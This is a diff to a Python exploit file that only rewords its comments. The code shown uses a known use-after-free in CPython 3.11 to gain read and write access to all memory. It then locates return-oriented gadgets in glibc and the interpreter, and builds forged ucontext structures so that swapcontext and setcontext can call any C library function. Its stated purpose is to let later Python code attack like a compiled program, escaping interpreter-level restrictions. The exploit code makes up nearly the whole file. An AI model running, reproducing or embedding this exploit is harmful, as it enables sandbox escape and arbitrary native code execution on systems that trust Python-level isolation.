@@ -1,6 +1,6 @@
-# Native code from Python alone: a known use after free in CPython (a buffer that a reader hands out and then frees) becomes a window onto all
-# memory, and that a way to call any function of the C library. What stands after this file attacks as a compiled program would; only what the
-# kernel forbids can hold it. For x86-64, CPython 3.11 and glibc.
+# Native code from Python alone. A known use-after-free in CPython (a buffer that a reader hands out and then frees) becomes a window onto all
+# memory, and then a way to call any C library function. Code after this file attacks like a compiled program; only the kernel's restrictions
+# can hold it. For x86-64, CPython 3.11 and glibc.
 import io, re, struct
 
 
@@ -20,7 +20,7 @@ except TypeError:
     pass
 del reader
 window = window.cast("P")
-# Takes the place that was freed: the window now shows this list's references.
+# Reuses the freed memory: the window now shows this list's references.
 slots = [None] * len(window)
 
 
@@ -31,7 +31,7 @@ def object_at(address):
     return found
 
 
-# A bytearray that begins at address 0 and never ends. The text that it lies in is kept.
+# A bytearray that starts at address 0 and spans all memory. The text that holds it must stay alive.
 anatomy = struct.pack("<7Q", 1 << 40, id(bytearray), (1 << 63) - 1, 1 << 62, 0, 0, 0)
 memory = object_at(id(anatomy) + 32)
 
@@ -45,7 +45,7 @@ def text_at(address):
 
 
 class Image:
-    """A program or library in memory, found by any address inside."""
+    """A program or library in memory, located by any address inside it."""
 
     def __init__(self, inside):
         self.base = inside & ~4095
@@ -95,7 +95,7 @@ def first_of(*codes):
     return next(filter(None, (image.find(code) for code in codes for image in (library, python))))
 
 
-# Pieces of code that end with a return: one fills a register from the stack, one stores what a function returned where a register points.
+# Gadgets: one loads a register from the stack, one stores a return value at the address in a register.
 pop_argument = first_of(b"\x5f\xc3")
 pop_place, keep_result = next(
     (first_of(bytes([0x58 + register, 0xC3])), first_of(bytes([0x48, 0x89, register, 0xC3])))
@@ -106,7 +106,7 @@ room = number_at(id(arena) + 40) + 4095 & ~4095
 saved, wanted, definition, fake, result = room, room + 4096, room + 8192, room + 12288, room + 16384
 stack, strings = room + (1 << 17) + 8, room + (1 << 17) + 4096
 method = re.compile("x").match
-# Raises whatever it is called with: what is returned to Python must be an object, or an error.
+# Raises its argument: Python must get back an object or an error.
 raises = number_at(number_at(id(io._io._IOBase.seek) + 40) + 8)
 
 
@@ -115,7 +115,7 @@ def write(address, data):
 
 
 def call(function, *arguments):
-    """Calls a function of the C library, or one at an address, with up to six numbers or bytes. Returns what it returned."""
+    """Calls a C library function, by name or address, with up to six numbers or bytes. Returns its return value."""
     numbers, free = [], strings
     for argument in arguments:
         if isinstance(argument, bytes):
@@ -123,16 +123,16 @@ def call(function, *arguments):
             argument, free = free, free + len(argument) + 16 & ~7
         numbers.append(argument & (1 << 64) - 1)
     numbers += [0] * (6 - len(numbers))
-    # The registers to be loaded, in the order of ucontext_t, with a floating point unit at rest.
+    # The registers to load, in the order of ucontext_t, with default floating-point state.
     write(wanted, bytes(1024))
     for place, number in zip((104, 112, 136, 152, 40, 48), numbers):
         write(wanted + place, struct.pack("<Q", number))
     write(wanted + 160, struct.pack("<2Q", stack, functions.get(function, function)))
     write(wanted + 224, struct.pack("<Q", wanted + 424))
     write(wanted + 424, struct.pack("<7I", 0x37F, 0, 0xFFFF, 0, 0, 0, 0x1F80))
-    # Afterwards: keep what was returned, raise, and go back to where this began.
+    # Afterwards: store the return value, raise, and return to the starting point.
     write(stack, struct.pack("<7Q", pop_place, result, keep_result, raises, pop_argument, saved, functions["setcontext"]))
-    # A method whose C function gets two numbers of ours: where to keep the present registers, and those to go on with.
+    # A method whose C function takes two of our numbers: where to save the current registers, and which to continue with.
     form = number_at(id(method) + 16)
     write(definition, struct.pack("<4Q", number_at(form), functions["swapcontext"], number_at(form + 16), 0))
     write(fake, struct.pack("<Q", 1 << 40) + bytes(memory[id(method) + 8:id(method) + 64]))
